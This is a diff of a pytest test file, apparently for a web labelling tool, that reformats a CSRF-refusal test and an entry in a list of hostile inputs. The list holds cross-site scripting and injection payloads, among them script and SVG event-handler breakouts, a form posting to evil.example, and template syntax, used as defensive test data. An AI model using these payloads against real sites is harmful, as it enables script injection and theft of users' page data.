@@ -54,7 +54,9 @@ REFUSED = [
 
 
 @pytest.mark.parametrize(("why", "change", "headers", "status"), REFUSED, ids=[r[0] for r in REFUSED])
-def test_a_post_without_a_valid_csrf_token_or_from_another_site_is_refused(client, store, why, change, headers, status):
+def test_a_post_without_a_valid_csrf_token_or_from_another_site_is_refused(
+    client, store, why, change, headers, status
+):
     token = store.add_labeller("ann")
     fields = {"choice": "a", **form_of(client.get(f"/l/{token}").text)}
     answer = client.post(f"/l/{token}/label", data=change(fields), headers=headers)
@@ -101,8 +103,11 @@ HOSTILE = [
     ('" onmouseover="window.__pwned=3" x="', "test_error", "breaks out of the title attribute it is shown in"),
     ("</textarea><script>window.__pwned=4</script>", "comment", "breaks out of the comment box"),
     ("<svg onload=window.__pwned=5>", "statement", "an SVG event handler in the problem statement"),
-    ("</pre><form action=http://evil.example method=post><button>go</button></form>", "statement",
-     "a form that would post the labeller's page elsewhere"),
+    (
+        "</pre><form action=http://evil.example method=post><button>go</button></form>",
+        "statement",
+        "a form that would post the labeller's page elsewhere",
+    ),
     ("<style>body{display:none}</style>", "program", "a stylesheet that hides the page"),
     ("<script>window.__pwned=6</script>", "task_id", "a task id is shown in the title and heading"),
     ("{{ 7 * 7 }}{% raw %}", "program", "template syntax must stay text (no second rendering)"),
